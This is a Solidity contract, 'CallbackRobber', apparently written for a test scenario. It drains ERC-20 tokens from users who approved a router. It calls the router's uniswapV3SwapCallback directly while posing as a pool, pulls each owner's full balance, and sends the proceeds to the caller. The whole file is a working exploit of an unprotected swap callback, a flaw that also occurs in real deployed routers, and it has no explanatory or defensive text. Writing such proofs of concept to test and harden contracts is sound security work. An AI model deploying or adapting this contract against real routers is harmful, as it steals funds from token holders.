// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {CallbackRouter} from "../scenarios/CallbackRouter.sol";

/// @title Calls a router back as if it were a pool, for each of those who let the router take their tokens.
contract CallbackRobber {
    function rob(CallbackRouter router, IERC20 token, address[] calldata owners) external {
        for (uint256 index; index < owners.length; index++) {
            uint256 amount = token.balanceOf(owners[index]);
            router.uniswapV3SwapCallback(int256(amount), 0, abi.encode(token, owners[index]));
        }
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }
}
